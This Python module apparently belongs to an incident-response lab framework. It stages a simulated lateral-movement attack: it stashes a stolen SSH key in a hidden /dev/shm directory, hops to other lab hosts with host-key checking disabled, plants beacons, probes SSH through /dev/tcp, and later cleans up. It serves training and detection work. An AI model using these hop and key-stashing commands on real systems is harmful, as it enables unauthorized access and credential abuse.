"""The staged attack `lateral-movement`: from the first host, a stolen key opens the others; beacons on all."""

from __future__ import annotations

from collections.abc import Sequence

from irflow.lab.beacon import Beacon
from irflow.lab.intruder import Intruder
from irflow.lab.lab import Lab
from irflow.lab.model import LabError, LabHost
from irflow.lab.session import Session
from irflow.lab.vantage import ssh_argv

ENTERED, STOLEN = "mallory", "deploy"
"""The accounts: that of the first host, and the one whose key was found there."""

_ANSWER_S = 10.0
_KEY = "/dev/shm/.hop/id"
_STEAL = "mkdir -p -m 700 /dev/shm/.hop && umask 077 && : >{key} && {lines} && echo taken"
_HOP = (
    "ssh {terminal} -F none -o BatchMode=yes -o ConnectTimeout=2 -o IdentitiesOnly=yes -o LogLevel=ERROR "
    "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -i {key} {account}@{address} {remote}"
)
# SSH greets first: whether a line of it comes.
_GREETING = 'exec 3<>"/dev/tcp/$1/22" && read -r -t 1 line <&3 && case $line in SSH-*) exit 0 ;; esac; exit 1'


class LateralMovement(Intruder):
    """An attack under way on several hosts; `entry` was entered from outside, the others from there."""

    def __init__(self, lab: Lab, hosts: Sequence[LabHost]) -> None:
        """Enter the first, hop to the others. Raises LabError."""
        self.hosts = tuple(hosts)
        self.entry, self.others = self.hosts[0], self.hosts[1:]
        self.sessions: dict[str, Session] = {}
        self.beacons: dict[str, Beacon] = {}
        super().__init__(lab)

    def _break_in(self) -> None:
        first = self.sessions[self.entry.name] = self._session(self.entry)
        self._steal(first)
        for host in self.others:
            login = ssh_argv(self.lab, self.entry, "attacker", connect_s=10)
            self.sessions[host.name] = self._session(host, login, self._hop(host, "/bin/sh", "-tt"))
        for host in self.hosts:
            self.beacons[host.name] = self._beacon(host, self.sessions[host.name])

    def session_alive(self, host: LabHost) -> bool:
        """Whether the session on that host, through the first one for the others, is answered."""
        return self.sessions[host.name].echoes()

    def can_hop(self, host: LabHost) -> bool:
        """Whether the stolen key logs in to another host from the first one now."""
        argv = ["su", "-s", "/bin/sh", "-c", self._hop(host, "true", "-T"), ENTERED]
        return self.lab.exec(self.entry, argv, timeout_s=8.0).returncode == 0

    def reaches(self, source: LabHost, target: LabHost) -> bool:
        """Whether one host gets an SSH greeting from another."""
        argv = ["timeout", "2", "bash", "-c", _GREETING, "bash", target.address]
        return self.lab.exec(source, argv, timeout_s=8.0).returncode == 0

    def clean(self) -> None:
        """End the attacker's processes everywhere, remove the keys that let it in. Twice is fine. Raises LabError."""
        for host in self.hosts:
            for account in (ENTERED, STOLEN):
                self._end_processes(host, account)
                self._on_host(host, 'rm -f "/home/$1/.ssh/authorized_keys"', account)
        self._on_host(self.entry, "rm -rf /dev/shm/.hop")

    def _steal(self, session: Session) -> None:
        """Put the key of deploy where mallory found it: line by line, for a terminal line is short."""
        lines = self.lab.deploy_key.read_text().splitlines()
        typed = " && ".join(f"echo '{line}' >>{_KEY}" for line in lines)
        if session.ask(_STEAL.format(key=_KEY, lines=typed), _ANSWER_S) != "taken":
            raise LabError("the key could not be put there", where=self.entry.name)

    def _hop(self, host: LabHost, remote: str, terminal: str) -> str:
        return _HOP.format(terminal=terminal, key=_KEY, account=STOLEN, address=host.address, remote=remote)
